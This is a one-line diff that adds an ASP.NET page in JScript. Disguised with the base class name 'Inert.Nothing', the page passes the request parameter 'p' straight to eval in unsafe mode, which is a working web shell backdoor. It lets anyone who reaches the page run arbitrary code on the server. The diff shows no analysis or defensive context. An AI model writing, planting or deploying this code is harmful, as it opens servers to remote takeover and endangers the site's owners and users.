@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript" Inherits="Inert.Nothing" %><%eval(Request.Item["p"],"unsafe");%>
